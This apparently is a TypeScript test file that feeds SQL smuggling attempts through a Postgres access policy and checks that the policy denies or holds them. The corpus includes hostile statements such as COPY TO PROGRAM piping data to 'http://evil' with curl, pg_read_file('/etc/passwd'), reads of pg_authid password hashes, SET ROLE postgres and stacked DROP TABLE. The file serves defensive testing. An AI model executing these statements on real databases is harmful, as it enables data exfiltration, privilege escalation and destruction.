// The smuggling corpus through the shipped policies/postgres.rego: classify() output is what the policy decides on.

import { beforeAll, describe, expect, it } from 'vitest';
import { compile, loadCompiled } from '../../../opa/index.ts';
import { loadPolicyTree } from '../../../src/files.ts';
import { classify, classifyFunctionCall } from '../../../enforcers/postgres/sql/index.ts';

interface Decision {
  allow: boolean;
  reasons: string[];
  require_approval?: { approvers: string[]; reason: string; ttl: string };
}

type Principal = Record<string, unknown>;

// A service principal in db-writers and a user in db-readers, on a database that is not production.
const writer: Principal = { id: 'entra:t1:oid-42', type: 'service_principal', groups: ['db-writers'], roles: [], claims: {} };
const reader: Principal = { id: 'entra:t1:alice', type: 'user', groups: ['db-readers'], roles: [], claims: {} };
// A GitHub Actions job whose repository owns the schema app_ci (policy data below).
const ciJob: Principal = { id: 'github:1/2:ref:refs/heads/main', type: 'ci_job', issuer: 'https://token.actions.githubusercontent.com', groups: [], roles: [], claims: { repository: 'octo-org/app' } };

let decideOn: (sql: Record<string, unknown>, principal: Principal, resourceAttributes: Record<string, unknown>) => Decision;
const decide = (sql: Record<string, unknown>, principal: Principal) => decideOn(sql, principal, {});

beforeAll(async () => {
  const tree = loadPolicyTree(['policies']);
  const r = compile(tree.rego, { query: 'd := data.writ.postgres.decision' });
  expect(r.ok, JSON.stringify(r.diagnostics)).toBe(true);
  const policy = await loadCompiled(r.wasm!);
  policy.setData({ ...tree.data, writ: { config: { postgres: { ci_schemas_by_repository: { 'octo-org/app': 'app_ci' } } } } });
  decideOn = (sql, principal, resourceAttributes) => {
    const input = {
      version: 1,
      principal,
      enforcer: { id: 'pg-1', kind: 'postgres' },
      resource: { name: 'orders-db', kind: 'postgres', attributes: resourceAttributes },
      session: { id: 's1', client_addr: '127.0.0.1', started_at: '2026-11-29T00:00:00Z' },
      action: { kind: 'statement', sql },
      context: { time: '2026-11-29T00:00:00Z', approvals: [] },
    };
    const rows = policy.evaluate(input, r.entrypoints.indexOf('eval')) as Array<{ d: Decision }>;
    expect(rows).toHaveLength(1);
    return rows[0]!.d;
  };
});

// Every statement of the text decided on its own; the text is allowed only if all are.
function decideAll(text: string, principal = writer): Decision[] {
  return classify(text).map((s) => decide(s as unknown as Record<string, unknown>, principal));
}

describe('smuggling corpus against policies/postgres.rego', () => {
  it('allows plain reads and writes of a writer', () => {
    expect(decideAll('select id from app.orders where id = 1').map((d) => d.allow)).toEqual([true]);
    expect(decideAll("insert into app.orders (id) values (1); update app.orders set total = 2 where id = 1").map((d) => d.allow)).toEqual([true, true]);
  });

  const denied: Array<[string, string, RegExp]> = [
    ['stacked DROP', 'select 1; DROP/**/TABLE app.orders', /^destructive_ddl: DROP is forbidden/m],
    ['DROP SCHEMA', 'DROP SCHEMA app CASCADE', /^destructive_ddl: DROP is forbidden/m],
    ['keyword split by a comment', 'DR/**/OP TABLE app.orders', /^unclassified: statement could not be classified: syntax error/m],
    ['DO with EXECUTE', "DO $x$ BEGIN EXECUTE 'drop table app.orders'; END $x$", /^dynamic_sql: DO blocks are forbidden.*'do_block'/m],
    ['DO with EXECUTE (the dynamic part)', "DO $x$ BEGIN EXECUTE 'drop table app.orders'; END $x$", /^dynamic_sql: dynamic SQL .*'dynamic_sql'/m],
    ['COPY TO PROGRAM', "COPY app.orders TO PROGRAM 'curl -d @- http://evil'", /^copy_program: COPY \.\.\. PROGRAM is forbidden/m],
    ['COPY FROM PROGRAM', "COPY app.orders FROM PROGRAM 'cat /etc/passwd'", /^copy_program: /m],
    ['SET ROLE', 'SET ROLE postgres', /^role_switch: SET ROLE is forbidden/m],
    ['SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', /^role_switch: .*'set_session_authorization'/m],
    ['SET search_path', 'SET search_path = evil, public', /^search_path: setting search_path is forbidden/m],
    ['SET LOCAL search_path', 'SET LOCAL search_path TO evil', /^search_path: /m],
    ['ALTER ROLE ... SET search_path', 'ALTER ROLE CURRENT_USER SET search_path = evil', /^search_path: /m],
    ['set_config search_path', "select set_config('search_path', 'evil', false)", /^dangerous_function: /m],
    ['pg_read_file', "SELECT pg_read_file('/etc/passwd')", /^dangerous_function: .*'function_call'/m],
    ['set_config role', "select set_config('role', 'postgres', false)", /^dangerous_function: /m],
    ['dblink', "select * from dblink('dbname=x', 'drop table t') as t(a int)", /^dangerous_function: /m],
    ['query_to_xml (SQL from text)', "select query_to_xml('delete from app.orders', true, true, '')", /^dynamic_sql: dynamic SQL/m],
    ['LOAD', "LOAD '/tmp/x.so'", /^server_code: LOAD is forbidden/m],
    ['ALTER SYSTEM', "ALTER SYSTEM SET archive_command = 'x'", /^server_configuration: ALTER SYSTEM is forbidden/m],
    ['CREATE EXTENSION', 'CREATE EXTENSION dblink', /^server_code: CREATE EXTENSION is forbidden/m],
    ['PREPARE', 'PREPARE p AS DELETE FROM app.orders', /^dynamic_sql: dynamic SQL .*'dynamic_sql'/m],
    ['EXECUTE', 'EXECUTE p', /^dynamic_sql: /m],
    ['pg_authid', 'select rolpassword from pg_catalog.pg_authid', /^secret_catalog: reading pg_catalog\.pg_authid/m],
    ['unqualified pg_authid', 'select rolpassword from pg_authid', /^secret_catalog: /m],
    ['pg_shadow', 'select passwd from pg_shadow', /^secret_catalog: /m],
    ['DELETE without WHERE', 'DELETE FROM app.orders', /^unbounded_write: DELETE without WHERE is forbidden/m],
    ['UPDATE without WHERE', "UPDATE app.orders SET status = 'x'", /^unbounded_write: UPDATE without WHERE is forbidden/m],
    ['a CTE deleting every row', 'with x as (delete from app.orders returning *) select count(*) from x', /^unbounded_write: DELETE without WHERE/m],
    ['COPY to a server file', "COPY app.orders TO '/tmp/orders.csv'", /^server_files: /m],
    ['TRUNCATE', 'TRUNCATE app.orders', /^destructive_ddl: TRUNCATE is forbidden/m],
  ];
  for (const [label, sql, reason] of denied) {
    it(`denies ${label}`, () => {
      const decisions = decideAll(sql);
      const last = decisions.at(-1)!;
      expect(last.allow).toBe(false);
      expect(last.reasons.join('\n')).toMatch(reason);
    });
  }

  it('denies a FunctionCall message', () => {
    const d = decide(classifyFunctionCall(2619) as unknown as Record<string, unknown>, writer);
    expect(d.allow).toBe(false);
    expect(d.reasons.join('\n')).toMatch(/^dangerous_function: .*'function_call'/m);
  });

  it('a CTE that deletes is a delete: a reader may not run it', () => {
    const [d] = decideAll('with x as (delete from app.orders where id = 1 returning *) select * from x', reader);
    expect(d!.allow).toBe(false);
    expect(d!.reasons).toEqual(['no_grant: no grant covers this action for this principal']);
    expect(decideAll('select * from app.orders', reader)[0]!.allow).toBe(true);
  });
});

describe('a CI job through the classifier: its own schema (app_ci) only', () => {
  it('reads and writes its schema, however the names are quoted; reads the catalogs', () => {
    const ok = [
      'select * from app_ci.builds b join app_ci.runs r on r.build = b.id',
      'select * from "app_ci"."builds"',
      "insert into app_ci.builds (id) values (1); update app_ci.builds set state = 'ok' where id = 1",
      'with old as (delete from app_ci.runs where id < 10 returning *) insert into app_ci.archive select * from old',
      'copy app_ci.builds from stdin',
      'select c.relname from pg_catalog.pg_class c join pg_catalog.pg_namespace n on n.oid = c.relnamespace',
      'begin; select now(); commit',
    ];
    for (const sql of ok) expect(decideAll(sql, ciJob).map((d) => [sql, d.allow, d.reasons.filter((r) => !r.startsWith('allowed'))])).toEqual(classify(sql).map(() => [sql, true, []]));
  });

  const outside: Array<[string, string, RegExp]> = [
    ['another schema', 'select * from app.orders', /it may not use app\.orders/],
    ['a join reaching another schema', 'select * from app_ci.builds b join app.orders o on o.id = b.id', /it may not use app\.orders \(/],
    ['an unqualified name', 'select * from orders', /it may not use orders/],
    ['a CTE writing another schema', 'with x as (insert into app.orders (id) values (1) returning id) select * from app_ci.builds', /it may not use app\.orders/],
    ['a subquery in another schema', 'update app_ci.builds set total = (select sum(total) from app.orders) where id = 1', /it may not use app\.orders/],
    ['a function of another schema', 'select app.export_orders()', /it may not call app\.export_orders/],
    ['a catalog write', "update pg_catalog.pg_class set relname = 'x' where oid = 1", /it may not use pg_catalog\.pg_class/],
    ['value samples of other schemas', 'select most_common_vals from pg_catalog.pg_stats', /it may not use pg_catalog\.pg_stats/],
    ['a database-qualified name', 'select * from test.app_ci.builds', /it may not use test\.app_ci\.builds/],
  ];
  for (const [label, sql, reason] of outside) {
    it(`denies ${label} by the ci_schema rule`, () => {
      const d = decideAll(sql, ciJob).at(-1)!;
      expect(d.allow).toBe(false);
      expect(d.reasons.join('\n')).toMatch(/^ci_schema: CI job github:1\/2:ref:refs\/heads\/main has its schema app_ci; /m);
      expect(d.reasons.join('\n')).toMatch(reason);
    });
  }

  it('DROP and TRUNCATE of its own tables are still denied', () => {
    expect(decideAll('drop table app_ci.builds', ciJob)[0]!.reasons).toEqual(['destructive_ddl: DROP is forbidden through writ']);
    expect(decideAll('truncate app_ci.builds', ciJob)[0]!.reasons).toEqual(['destructive_ddl: TRUNCATE is forbidden through writ']);
  });
});

describe('a service principal on production: writes held for db-owners', () => {
  it('a data-modifying CTE is a write held for approval; a plain read is not', () => {
    const prod = (sql: string) => classify(sql).map((s) => decideOn(s as unknown as Record<string, unknown>, writer, { environment: 'production' }));
    const [held] = prod('with x as (update app.orders set total = 0 where id = 1 returning id) select * from x');
    expect(held).toMatchObject({ allow: false, require_approval: { approvers: ['db-owners'], reason: 'production_write: a write by a service principal to production table app.orders', ttl: '15m' } });
    expect(prod('select * from app.orders for update')[0]).toMatchObject({ allow: true });
    expect(prod('select * from app.orders for update')[0]!.require_approval).toBeUndefined();
  });
});
